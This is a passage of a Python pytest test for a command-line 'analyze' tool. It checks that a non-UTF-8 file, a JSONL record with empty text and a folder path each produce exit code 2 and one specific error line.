    (tmp_path / "empty.jsonl").write_text('{"text": ""}\n', encoding="utf-8")
    (tmp_path / "folder").mkdir()
    for name, message in (
        ("cp1258.txt", "cp1258.txt: not UTF-8 text"),
        ("empty.jsonl", 'empty.jsonl:1: the record has no "text"'),
        ("folder", "folder: is a folder; give the path of an article file"),
    ):
        code = main(["analyze", str(tmp_path / name)])
        err = capsys.readouterr().err.splitlines()
        assert (code, len(err)) == (2, 1) and message in err[0], err
